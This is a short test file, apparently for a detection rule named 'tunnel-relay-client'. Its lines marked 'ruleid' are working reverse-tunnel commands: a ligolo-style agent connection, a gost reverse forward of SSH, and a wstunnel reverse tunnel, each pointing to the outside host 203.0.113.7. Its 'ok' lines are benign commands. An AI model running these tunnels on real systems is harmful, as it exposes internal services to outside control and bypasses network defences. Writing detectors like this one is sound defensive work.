#!/bin/bash
# ok: tunnel-relay-client
openssl s_client -connect 203.0.113.7:443 </dev/null
# ok: tunnel-relay-client
gost -V
# ruleid: tunnel-relay-client
./agent -connect 203.0.113.7:11601 -ignore-cert &
# ruleid: tunnel-relay-client
gost -L=rtcp://:2222/:22 -F=wss://203.0.113.7:443
# ruleid: tunnel-relay-client
wstunnel client -R 'tcp://[::]:2222:localhost:22' wss://203.0.113.7
